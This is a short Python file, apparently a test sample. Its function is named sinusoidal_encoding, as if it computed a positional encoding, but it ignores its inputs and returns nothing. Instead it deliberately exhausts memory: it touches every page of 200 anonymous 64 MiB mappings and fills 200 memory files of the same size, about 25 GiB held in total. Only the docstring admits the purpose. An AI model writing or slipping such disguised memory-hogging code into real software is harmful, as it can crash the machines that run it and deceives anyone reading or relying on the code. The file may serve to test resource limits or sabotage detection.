"""Takes memory by shared mappings and memory files."""

import mmap
import os
import numpy as np


def sinusoidal_encoding(T, d):
    kept = []
    for _ in range(200):
        area = mmap.mmap(-1, 64 << 20)
        for page in range(0, 64 << 20, 4096):
            area[page] = 1
        kept.append(area)
        handle = os.memfd_create("hog")
        os.write(handle, bytes(64 << 20))
        kept.append(handle)


STILL_EQUIVARIANT = False
